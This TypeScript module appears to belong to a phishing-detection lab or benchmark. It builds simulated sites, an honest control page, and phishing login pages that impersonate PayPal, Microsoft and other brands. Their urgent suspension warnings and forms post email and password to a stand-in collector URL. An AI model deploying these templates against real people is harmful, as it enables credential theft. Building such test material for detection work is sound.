/** A request to a site of the laboratory. */
export interface SiteRequest {
  readonly query: string;
  readonly cookie: string;
  /** The whole head. */
  readonly head: string;
}

/** An answer: HTML, or with a status line and headers, or by the request. */
export type SiteAnswer =
  | string
  | {
      readonly status?: string;
      /** Added to a `Content-Type` of HTML, which an empty text removes. A list is sent as several lines. */
      readonly headers?: Readonly<Record<string, string | readonly string[]>>;
      readonly body?: string | Uint8Array;
    }
  | ((request: SiteRequest) => SiteAnswer);

/** Answers by path; a path of the second host begins with its name, as in `//other/path`. */
export type Site = Readonly<Record<string, SiteAnswer>>;

/** A phishing page, and the two hosts of the kit that serves it. */
export interface Kit {
  readonly brand: string;
  readonly title: string;
  /** Heading, urgency and form, in one line without line breaks or single quotes. */
  readonly body: string;
  /** The whole page. */
  readonly page: string;
  readonly host: string;
  /** A second, neutral host. */
  readonly other: string;
}

/** Tricks of one kind by name. A visitor opens `/`, and somewhere on the way meets the phishing page, or does not. */
export type Tricks = Readonly<Record<string, (kit: Kit) => Site>>;

/** Where filled-in forms are sent. */
export const COLLECTOR = 'http://inbox-relay.net/take.php';

/** Markup of an honest page. */
export const HONEST_TEXT =
  '<h1>Riverside choir</h1><p>We rehearse every Tuesday at half past seven in the parish hall. New voices are welcome, no audition is needed, and coffee is served in the break.</p>';

/** Returns a document. */
export function pageOf(title: string, body: string, head = ''): string {
  return `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>${title}</title>${head}</head><body>${body}</body></html>`;
}

/** Returns a document of a script and an empty root. */
export function drawn(code: string, before = '<div id="root"></div>'): string {
  return pageOf('Welcome', `${before}<script>${code}</script>`);
}

/** Returns an answer with another type. */
export function typed(type: string, body: string | Uint8Array): SiteAnswer {
  return { headers: { 'Content-Type': type }, body };
}

/** A string literal of JavaScript in double quotes. */
export const literal = (text: string) => JSON.stringify(text);

/** `document.getElementById("root")`, as every row needs it. */
export const ROOT = 'document.getElementById("root")';

const BRANDS = ['PayPal', 'Microsoft', 'Netflix', 'Amazon', 'Facebook'];
const FIRST =
  'meadow river stone maple harbour willow copper summer valley lantern orchard feather granite amber cedar heron poplar pebble tulip anchor';
const SECOND =
  'choir garden cycling pottery rowing theatre knitting hiking chess gallery bakery museum library quilt band sailing mosaic rugby ceramics orchestra';

/** Returns a kit for the row of that number, whose host names say nothing. */
export function kitOf(row: number): Kit {
  const brand = BRANDS[row % BRANDS.length] ?? '';
  const title = `${brand}: Log in to your account`;
  const body = `<h1>Log in to ${brand}</h1><p>We noticed unusual activity. Your ${brand} account will be suspended within 24 hours unless you confirm your identity.</p><form method="post" action="${COLLECTOR}"><label>Email <input type="email" name="email"></label><label>Password <input type="password" name="pass"></label><button>Log in</button></form>`;
  return {
    brand,
    title,
    body,
    page: pageOf(title, body),
    host: hostName(row, 'net'),
    other: hostName(row, 'org'),
  };
}

function hostName(row: number, suffix: string): string {
  const [first, second] = [FIRST.split(' '), SECOND.split(' ')];
  return `${first[row % first.length]}-${second[Math.floor(row / first.length) % second.length]}.${suffix}`;
}
